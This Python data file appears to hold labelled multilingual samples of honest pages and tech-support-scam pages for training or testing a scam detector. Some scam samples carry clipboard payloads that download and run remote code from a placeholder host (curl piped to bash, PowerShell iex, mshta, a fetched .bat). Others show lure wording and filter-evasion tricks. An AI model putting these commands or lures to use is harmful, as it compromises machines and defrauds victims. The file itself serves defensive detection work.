"""Mixed languages: more honest look-alikes (the hard side) and scams in wordings the first files lack."""
from kit import P

# ---- honest, the hard ones: a phone number next to lock/block/fine/virus words
P('en_h_msft', 'honest', 'https://support.microsoft.com/en-us/windows/protect-yourself-from-tech-support-scams', 'h-consumer', 'en', 'Protect yourself from tech support scams',
  '''Tech support scammers often use scare tactics to trick you into paying for unnecessary technical support services.
They may display fake error messages on websites you visit, showing support numbers and enticing you to call. They may also lock your browser or put it in full screen.
Microsoft error and warning messages never include phone numbers. Microsoft does not send unsolicited email messages or make unsolicited phone calls to request personal or financial information or fix your computer.
If you called a number from a pop-up, uninstall any remote access app you were asked to install and change your passwords.''')

P('en_h_applelock', 'honest', 'https://support.apple.com/en-us/108794', 'h-mdm', 'en', 'Activation Lock for iPhone and iPad - Apple Support',
  '''About Activation Lock on your iPhone or iPad
Activation Lock is designed to prevent anyone else from using your device if it's ever lost or stolen. It turns on automatically when you turn on Find My.
If you see the Activation Lock screen, enter the Apple ID and password that you used to set up the device.
If you can't remember your password, go to iforgot.apple.com. If you still need help, contact Apple Support with proof of purchase.''')

P('en_h_bankcall', 'honest', 'https://secure.chase.com/web/auth/dashboard#/alerts/card-locked', 'h-bankblock', 'en', 'Chase Online - Account alerts',
  '''Your debit card ending in 0142 is temporarily locked
We noticed a transaction that doesn't look like you: $1,249.00 at ELECTRONICS ONLINE on Dec 5.
If this was you, select "Yes, it was me" to unlock your card. If not, select "No" and we'll send a new card.
You can also call us at 1-800-555-0199. We'll never ask for your full card number or PIN.''')

P('en_h_carrierbill', 'honest', 'https://www.verizon.com/support/past-due-bill/', 'h-carrier-sim', 'en', 'Past due bill | Verizon',
  '''Your bill is past due
If your balance isn't paid by the due date, your service may be suspended. Pay now in My Verizon or set up a payment arrangement.
Need help? Call *611 from your Verizon phone or 1-800-555-0204.''')

P('en_h_mcafee', 'honest', 'https://www.mcafee.com/support/s/article/000001950', 'h-av', 'en', 'How to request a refund | McAfee',
  '''How to request a refund for your McAfee subscription
If you bought your subscription from us directly, you can request a refund within 30 days of purchase or automatic renewal.
Sign in to My Account, open Auto-renewal settings and select Request refund. You can also contact Customer Service by chat.
Watch out for fake McAfee renewal emails that ask you to call a number to cancel. McAfee won't ask you to install remote access software for a refund.''')

P('en_h_iptvlegit', 'honest', 'https://help.sling.com/activate', 'h-streaming-activate', 'en', 'Activate your device | Sling TV',
  '''Activate your streaming device
Open the app on your TV. You'll see an activation code. Go to sling.com/activate on your phone or computer and enter the code.
Activation is free. If the code has expired, go back in the app to get a new one.
Still not working? Visit our Help Center to chat with us.''')

P('en_h_warrant', 'honest', 'https://www.courts.example.gov/failure-to-appear', 'h-court', 'en', 'Missed your court date?',
  '''Missed your court date?
If you fail to appear for a traffic citation, the court may issue a bench warrant and add a $50 fee.
Contact the Clerk's office at 555-0161 or come to the courthouse to set a new date. The court never asks for payment by gift card or cryptocurrency.''')

P('en_h_pranksite', 'honest', 'https://fakeupdate.example/win10/', 'h-game', 'en', 'Windows 10 Update prank',
  '''Working on updates 34% complete.
Don't turn off your computer. This will take a while.
(Press F11 for full screen, press Esc to leave. This is a harmless prank screen: nothing is installed.)''', beh='fullscreen')

P('en_h_labnotes', 'honest', 'https://blog.soc-team.example/2026/bsod-lure-kit', 'h-blog', 'en', 'Teardown: a blue screen lure kit',
  '''The kit shows the text "Windows Defender Security Center - Your computer is locked until a technician checks it" and a toll-free number (we replaced it with 1-800-555-0100).
It requests full screen on the first click, traps the keyboard and plays an audio loop saying "call Microsoft support immediately".
Hosting: static pages on cloud storage subdomains. Indicators at the end of this post. Never call the numbers in such pages.''')

P('en_h_bitlocker', 'honest', 'https://helpdesk.acme-corp.example/kb/bitlocker-recovery', 'h-helpdesk', 'en', 'BitLocker recovery screen',
  '''If your laptop shows a blue BitLocker recovery screen asking for a recovery key, your device is not infected.
Call the IT Service Desk at extension 5550 (or +1 555 555 0150 from outside) and give them the Key ID shown on the screen. Never share your recovery key with anyone who calls you.''')

P('de_h_mdm', 'honest', 'https://geraete.firma-beispiel.example/sperre', 'h-mdm', 'de', 'Gerät gesperrt',
  '''Dieses Gerät wurde von Ihrer IT-Abteilung gesperrt.
Das Notebook wurde als verloren gemeldet. Finder werden gebeten, die IT unter 0555 555 0111 anzurufen oder das Gerät bei einem Standort abzugeben.''', beh='fullscreen')

P('de_h_news', 'honest', 'https://www.nachrichten-beispiel.example/lokales/betrug-blauer-bildschirm', 'h-news', 'de', 'Falscher Microsoft-Support: Rentner verliert 8000 Euro',
  '''Auf dem Bildschirm des 78-Jährigen erschien die Meldung: "Ihr Computer ist gesperrt. Rufen Sie sofort den Microsoft-Support an: 0800 555 0175".
Der angebliche Techniker ließ sich Fernzugriff geben und buchte 8000 Euro ab. Die Polizei warnt: Microsoft zeigt nie Telefonnummern in Warnungen.''')

P('de_h_inkasso', 'honest', 'https://www.inkasso-beispiel.example/zahlung', 'h-debtcollector', 'de', 'Forderung begleichen',
  '''Sie haben ein Schreiben von uns erhalten? Hier können Sie die Forderung begleichen oder eine Ratenzahlung vereinbaren.
Sie erreichen uns unter 0555 555 0135. Wenn Sie die Forderung bestreiten, teilen Sie uns dies bitte schriftlich mit.''')

P('fr_h_netflix', 'honest', 'https://www.netflix.com/fr/tv8', 'h-streaming-activate', 'fr', 'Netflix - Saisissez le code',
  '''Saisissez le code affiché sur votre TV
Connectez-vous sur votre téléviseur en saisissant le code à 8 chiffres. Le code a expiré ? Relancez l'application Netflix sur votre TV.''')

P('fr_h_kiosk', 'honest', 'https://borne.mediatheque-exemple.example/', 'h-kiosk', 'fr', 'Borne de prêt',
  '''Bienvenue. Posez vos documents sur la platine et présentez votre carte. Besoin d'aide ? Adressez-vous à l'accueil ou appelez le 04 55 55 01 87.''', beh='fullscreen')

P('fr_h_orange', 'honest', 'https://assistance.orange.fr/mobile-tablette/tous-les-mobiles/activer-sa-carte-sim', 'h-carrier-sim', 'fr', 'Activer sa carte SIM | Orange',
  '''Votre nouvelle carte SIM est activée dans les 2 heures suivant la commande. Si elle ne fonctionne pas, redémarrez votre mobile.
Pour suspendre votre ligne en cas de vol, appelez le 3900.''')

P('es_h_news', 'honest', 'https://www.diario-ejemplo.example/sucesos/falso-soporte', 'h-news', 'es', 'Estafa del falso soporte técnico',
  '''"Su ordenador ha sido bloqueado. Llame al soporte de Microsoft al 900 555 017", decía la pantalla. Una vecina de 70 años pagó 1.200 € a los estafadores.
La Guardia Civil recuerda que Microsoft nunca muestra números de teléfono en sus avisos.''')

P('es_h_exam', 'honest', 'https://examen.universidad-ejemplo.example/prueba', 'h-exam', 'es', 'Examen en curso',
  '''Examen en curso. El navegador permanecerá bloqueado hasta que entregue la prueba.
Salir de pantalla completa se notificará al profesor. Incidencias técnicas: 91 555 0170.''', beh='fullscreen,keyboard_lock')

P('it_h_tim', 'honest', 'https://www.tim.it/assistenza/mobile/sim', 'h-carrier-sim', 'it', 'Attivare la SIM | TIM',
  '''La tua nuova SIM si attiva entro 24 ore. In caso di furto chiama il 119 per bloccare la linea.''')

P('it_h_news', 'honest', 'https://www.giornale-esempio.example/cronaca/truffa-finto-tecnico', 'h-news', 'it', 'Truffa del finto tecnico Microsoft',
  '''"Il tuo computer è stato bloccato. Chiama il supporto Microsoft al numero verde 800 555 017": è il messaggio comparso sul PC di un pensionato, che ha perso 2.000 euro.
La Polizia Postale ricorda di non chiamare mai i numeri mostrati in questi avvisi.''')

P('pt_h_debt', 'honest', 'https://www.deco.proteste.example.pt/dividas', 'h-debtadvice', 'pt', 'Apoio ao sobre-endividamento',
  '''Tem dívidas que não consegue pagar? O nosso gabinete de apoio ajuda a negociar com os credores.
Ninguém pode ser preso por uma dívida civil. Ligue 21 555 0111.''')

P('nl_h_news', 'honest', 'https://www.nieuws-voorbeeld.example/binnenland/nep-helpdesk', 'h-news', 'nl', 'Oplichters met nep-Microsoftscherm',
  '''"Uw computer is geblokkeerd. Bel Microsoft Ondersteuning: 0800 555 0175", stond er op het scherm van een 81-jarige vrouw. Ze verloor 4.000 euro.
De politie waarschuwt: Microsoft toont nooit telefoonnummers in foutmeldingen.''')

P('ja_h_exam', 'honest', 'https://cbt.shiken-rei.example/session', 'h-exam', 'ja', '試験中',
  '''試験中です。提出するまでブラウザーはロックされます。全画面表示を終了すると監督者に通知されます。
技術的な問題がある場合は試験会場 03-5555-0170 にご連絡ください。''', beh='fullscreen,keyboard_lock')

P('ja_h_news', 'honest', 'https://www.shinbun-rei.example/news/sagi-keikoku', 'h-news', 'ja', '偽警告で70代男性が被害',
  '''パソコンに「ウイルスに感染しました。Microsoftサポート 0120-555-017 に電話してください」と表示され、男性は電子マネー10万円分を購入させられた。
警察は、表示された番号に電話しないよう呼びかけている。''')

P('ko_h_news', 'honest', 'https://www.sinmun-yeje.example/society/fake-alert', 'h-news', 'ko', '가짜 보안 경고 주의',
  '''"컴퓨터가 감염되었습니다. Microsoft 지원 080-555-0175로 전화하세요"라는 가짜 경고로 60대 남성이 피해를 입었다. 경찰은 화면의 번호로 전화하지 말라고 당부했다.''')

P('zh_h_netflix', 'honest', 'https://www.iqiyi.com/tv/activate', 'h-streaming-activate', 'zh', '电视激活',
  '''在电视上打开应用，输入屏幕上显示的激活码即可登录。激活免费。如激活码过期，请重新打开应用获取新的激活码。''')

P('ru_h_news', 'honest', 'https://www.novosti-primer.example/incidents/fake-support', 'h-news', 'ru', 'Пенсионерка отдала 300 тысяч «техподдержке»',
  '''На экране появилось сообщение: «Ваш компьютер заблокирован. Позвоните в поддержку Microsoft: 8 800 555-01-75». Мошенник убедил женщину установить программу удалённого доступа.
В полиции напоминают: Microsoft никогда не показывает номера телефонов в предупреждениях.''')

P('pl_h_news', 'honest', 'https://www.wiadomosci-przyklad.example/kraj/falszywy-konsultant', 'h-news', 'pl', 'Fałszywy konsultant Microsoft',
  '''Na ekranie 70-latka pojawił się komunikat: „Komputer został zablokowany. Zadzwoń do pomocy technicznej Microsoft: 22 555 01 75”. Stracił 9 000 zł.
Policja przypomina, że Microsoft nigdy nie wyświetla numerów telefonów w ostrzeżeniach.''')

P('tr_h_news', 'honest', 'https://www.haber-ornek.example/teknoloji/sahte-destek', 'h-news', 'tr', 'Sahte Microsoft uyarısına dikkat',
  '''Ekranda "Bilgisayarınız kilitlendi. Microsoft destek hattını arayın: 0800 555 0175" yazısı çıktı. Emekli öğretmen 20.000 TL kaybetti. Polis bu numaraları aramamanız konusunda uyarıyor.''')

P('sv_h_kiosk', 'honest', 'https://kiosk.bibliotek-exempel.example/', 'h-kiosk', 'sv', 'Självbetjäning',
  '''Välkommen! Lägg böckerna på hyllan och blippa ditt lånekort. Behöver du hjälp? Fråga personalen eller ring 08-555 01 87.''', beh='fullscreen')

P('hi_h_news', 'honest', 'https://www.samachar-udaharan.example/tech/fake-alert', 'h-news', 'hi', 'नकली Microsoft चेतावनी से ठगी',
  '''स्क्रीन पर संदेश आया: "आपका कंप्यूटर लॉक हो गया है, Microsoft सहायता 1800 555 0175 पर कॉल करें"। ठगों ने रिमोट एक्सेस लेकर ₹80,000 निकाल लिए। पुलिस ने ऐसे नंबरों पर कॉल न करने की सलाह दी।''')

P('ar_h_news', 'honest', 'https://www.akhbar-mithal.example/tech/fake-support', 'h-news', 'ar', 'احتيال الدعم الفني المزيف',
  '''ظهرت رسالة على شاشة الضحية: "تم حظر جهازك، اتصل بدعم مايكروسوفت على 800 555 0175". خسر الضحية 5,000 ريال. تحذر الشرطة من الاتصال بهذه الأرقام.''')

P('id_h_devdocs', 'honest', 'https://docs.alat-contoh.example/id/instalasi', 'h-devdocs', 'id', 'Instalasi di Windows',
  '''Buka PowerShell lalu tempel perintah berikut:
irm https://get.alat-contoh.example/install.ps1 | iex
Salin''', clip='irm https://get.alat-contoh.example/install.ps1 | iex')

P('ja_h_brew', 'honest', 'https://brew.sh/ja/', 'h-devdocs', 'ja', 'Homebrew — macOS 用パッケージマネージャー',
  '''インストール
ターミナルに以下を貼り付けて実行してください。
/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"
コピー''', clip='/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"')

# ---- scams in wordings the first files lack
P('en_s_caps_amazon', 'scam', 'https://amz-prime-helpcenter.site/', 'callus-amazon', 'en', 'AMAZON SECURITY',
  '''AMAZON PRIME MEMBERSHIP AUTO-RENEWED $299.00
YOUR ACCOUNT WAS ACCESSED FROM A NEW DEVICE.
CALL AMAZON SECURITY DESK NOW 1 888 555 0190 TO CANCEL AND SECURE YOUR ACCOUNT.''')

P('en_s_mt_ebay', 'scam', 'https://ebay-buyer-protect.online/', 'callus-market', 'en', 'eBay Buyer Protection',
  '''Dear valued customer, kindly be informed that your eBay account has been suspended due to suspicious payment activities.
Kindly do the needful and contact the Buyer Protection Team on the toll free 1-833-555-0186 for the verification of your identity.
Your prompt co-operation is highly appreciated.''')

P('en_s_geek', 'scam', 'https://geeksquad-renewal.net/', 'callus-av', 'en', 'Geek Squad',
  '''Geek Squad Protection Plan
Thank you for renewing. Your card has been charged $349.99 for 2 years of tech support.
Questions or to cancel: +1 (809) 555-0159. Refunds processed only by phone.''')

P('en_s_googleplay', 'scam', 'https://gplay-account-suspend.site/', 'callus-google', 'en', 'Google Account Suspended',
  '''Your Google account has been suspended.
We found unusual activity involving your Google Pay wallet. All your Gmail, Photos and Drive data will be deleted in 24 hours.
To reactivate your account speak to a Google Account Specialist: +1 (866) 555-0144.''')

P('en_s_ups', 'scam', 'https://ups-delivery-hold.info/', 'callus-delivery', 'en', 'UPS: Delivery Exception',
  '''UPS Delivery Exception
Your package 1Z5550177 could not be delivered due to an incomplete address. A redelivery fee is required.
Call UPS Customer Support at 1-855-555-0177 to schedule delivery before it is returned.''')

P('de_s_apple', 'scam', 'https://apple-id-entsperren.site/', 'callus-apple', 'de', 'Apple-ID gesperrt',
  '''Ihre Apple-ID wurde aus Sicherheitsgründen gesperrt.
Es wurde ein verdächtiger Kauf über 1.299 € auf Ihrem Konto festgestellt. Ihr iPhone ist nicht mehr sicher.
Rufen Sie den Apple Support unter 0800 555 0117 an, um Ihr Gerät zu entsperren.''', beh='fullscreen')

P('fr_s_signin', 'scam', 'https://compte-ms-verif.azureedge.net/', 'screen-signin', 'fr', 'Compte Microsoft',
  '''Alerte de sécurité Windows
Votre ordinateur a été verrouillé. Connectez-vous à votre compte Microsoft pour le déverrouiller.
Adresse e-mail
Mot de passe
Se connecter
Problème de connexion ? Appelez le support : 01 86 55 01 93''', beh='fullscreen')

P('es_s_paypal', 'scam', 'https://paypal-reembolso-cliente.site/', 'callus-paypal', 'es', 'PayPal: pago enviado',
  '''Ha enviado un pago de 649,00 € a Tienda Cripto SL.
Si no reconoce esta operación, llame al Departamento de Facturación de PayPal al 900 555 013 en las próximas 24 horas.''')

P('it_s_update', 'scam', 'https://aggiornamento-win.cloud/', 'screen-update', 'it', 'Aggiornamento in corso',
  '''Aggiornamento in corso 42%
Non spegnere il computer.
Aggiornamento non riuscito: la licenza di Windows è scaduta. I file personali verranno eliminati al riavvio.
Chiama il Centro Attivazione Windows al 800 555 016.''', beh='fullscreen')

P('ja_s_macos', 'scam', 'https://mac-kakunin.site/', 'clickfix-macos', 'ja', 'Mac の確認',
  '''続行するには Mac を確認してください。
ターミナルを開き（Command + スペース → 「ターミナル」）、コピーされたコマンドを貼り付けて（Command + V）Return を押してください。''', clip='curl -s https://mac-ja.example-host.top/v.sh | bash')

P('ru_s_iptv', 'scam', 'https://aktivaciya-tv.site/', 'callus-iptv', 'ru', 'Активация ТВ',
  '''Ошибка активации Smart TV (код 5550-27). Ваше устройство не зарегистрировано.
Для активации позвоните нашим специалистам: 8 800 555-01-52. Круглосуточно.''')

P('pl_s_evnum', 'scam', 'https://pomoc-pc-pl.site/', 'evasion-number', 'pl', 'Alarm',
  '''Microsoft: komputer zablokowany, wykryto wirusa. Dane bankowe zagrożone.
Zadzwoń: dwa dwa - 555 - zero jeden siedem pięć (22-555-O175). Nie zamykaj strony.''', beh='fullscreen')

P('fr_s_evhomo', 'scam', 'https://alerte-securite.pages.dev/', 'evasion-homoglyph', 'fr', 'Sécurité Windows',
  '''Аlеrtе dе sécurité Місrоsоft
Vоtrе оrdinаtеur еst blоqué. Dеs virus оnt été détесtés.
Арреlеz lе suрроrt : 01 86 55 01 29''', beh='fullscreen')

P('de_s_evspace', 'scam', 'https://pc-sperre.online/', 'evasion-spaced', 'de', 'W A R N U N G',
  '''C O M P U T E R   G E S P E R R T
Trojaner gefunden. Bankdaten in Gefahr.
J E T Z T   A N R U F E N :  0 8 0 0  5 5 5  0 1 3 8''', beh='fullscreen')

P('es_s_evzw', 'scam', 'https://alerta-pc-77.azurewebsites.net/', 'evasion-invisible', 'es', 'Alerta',
  '''Aler\u200cta de segu\u200cridad de Micro\u200csoft
Su orde\u200cnador está blo\u200cqueado. Virus detec\u200ctado.
Lla\u200cme al sopor\u200cte técnico: 900 555 014''', beh='fullscreen')

P('ko_s_evzw', 'scam', 'https://boan-gyeonggo.pages.dev/', 'evasion-invisible', 'ko', '보안 경고',
  '''마이크\u200b로소프트 보안 경\u200b고
컴퓨\u200b터가 잠겼\u200b습니다. 바이러\u200b스가 발견되었습니다.
지원 센\u200b터에 전화\u200b하세요: 080-555-0148''', beh='fullscreen')

P('de_s_terse', 'scam', 'https://x7k.click/', 'clickfix-terse', 'de', 'Prüfung',
  '''Win+R → Strg+V → Enter''', clip='cmd /c "curl -s de.example-host.top/a.bat -o %TEMP%\\a.bat & %TEMP%\\a.bat"')

P('fr_s_fix', 'scam', 'https://lecteur-video-hd.site/', 'clickfix-fix', 'fr', 'Erreur de lecture',
  '''La vidéo ne peut pas être lue : codec manquant.
Pour corriger : cliquez sur « Copier le correctif », ouvrez PowerShell, collez (Ctrl+V) et appuyez sur Entrée.
Copier le correctif''', clip='powershell -nop -w h -c "$u=\'https://codec-fr.example-host.top/c\';iex (irm $u)"')

P('zh_s_captcha', 'scam', 'https://renji-yanzheng.top/', 'clickfix-captcha', 'zh', '人机验证',
  '''我不是机器人
验证步骤：1. 按 Windows 键 + R  2. 按 Ctrl + V  3. 按回车''', clip='mshta https://zh.example-host.top/v.hta # 我不是机器人 验证码 5550122')

P('es_s_police', 'scam', 'https://policia-nacional-multa.top/', 'police-lock', 'es', 'Policía Nacional',
  '''¡ATENCIÓN! Su ordenador ha sido bloqueado por la Policía Nacional.
Se ha detectado la visualización de material ilegal desde su dirección IP.
Para desbloquear el equipo debe pagar una multa de 300 € en un plazo de 24 horas mediante Paysafecard.''', beh='fullscreen,key_block')

P('it_s_arrest', 'scam', 'https://agenzia-entrate-avviso.info/', 'debt-arrest', 'it', 'Avviso di arresto',
  '''Agenzia delle Entrate: risulta un debito fiscale non pagato di 3.480 €. È stato emesso un mandato di arresto a suo carico.
Per evitare l'arresto chiami oggi l'ufficio riscossione al 06 555 0126.''')
